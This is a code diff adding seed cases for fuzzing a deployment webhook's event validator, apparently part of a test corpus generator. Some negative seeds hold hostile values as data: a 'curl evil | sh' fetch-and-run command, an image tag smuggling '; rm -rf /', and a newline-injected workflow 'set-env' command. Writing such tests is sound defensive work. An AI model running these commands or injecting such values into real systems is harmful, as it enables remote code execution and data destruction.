@@ -302,6 +302,38 @@ def cli_seeds():
     }
 
 
+# --- receive: raw event files ------------------------------------------------
+
+def receive_seeds():
+    import json
+
+    def event(payload, action="trigger-deploy", login="octocat", member="client_payload"):
+        e = {"action": action, "branch": "main", member: payload,
+             "repository": {"full_name": "octo-org/deployments"},
+             "sender": {"login": login, "type": "User"}, "installation": {"id": 1}}
+        return json.dumps(e).encode()
+
+    ok = {"image_tag": "sha-0123abc", "environment": "staging"}
+    return {
+        "valid": event(ok),
+        "valid-all": event(dict(ok, replicas=3, note="line one\nline two")),
+        "valid-bot": event(ok, login="Deploy-Bot[bot]"),
+        "valid-inputs": event(dict(ok, replicas=1.0), member="inputs"),
+        "null-payload": event(None),
+        "array-payload": event(["sha-0123abc"]),
+        "extra": event(dict(ok, script="curl evil | sh")),
+        "bad-pattern": event(dict(ok, image_tag="latest; rm -rf /")),
+        "bad-enum": event(dict(ok, environment="prod")),
+        "bad-type": event(dict(ok, replicas="3")),
+        "long-note": event(dict(ok, note="x" * 300)),
+        "long-name": event(dict(ok, **{"k" * 2000: 1})),
+        "wrong-action": event(ok, action="deploy\n::set-env name=X::y"),
+        "wrong-sender": event(ok, login="mallory"),
+        "deep": event({"note": json.loads("[" * 100 + "]" * 100)}),
+        "not-json": b'{"action": "trigger-deploy", "client_payload": {',
+    }
+
+
 # --- regressions: minimized findings, replayed by run.sh ----------------------
 
 def regressions():
@@ -328,7 +360,7 @@ def main():
             with open(os.path.join(d, name), "wb") as f:
                 f.write(data)
     for target, seeds in [("payload", payload_seeds()), ("inputs", inputs_seeds()),
-                          ("cli", cli_seeds())]:
+                          ("cli", cli_seeds()), ("receive", receive_seeds())]:
         d = os.path.join(HERE, "corpus", target)
         os.makedirs(d, exist_ok=True)
         for old in os.listdir(d):
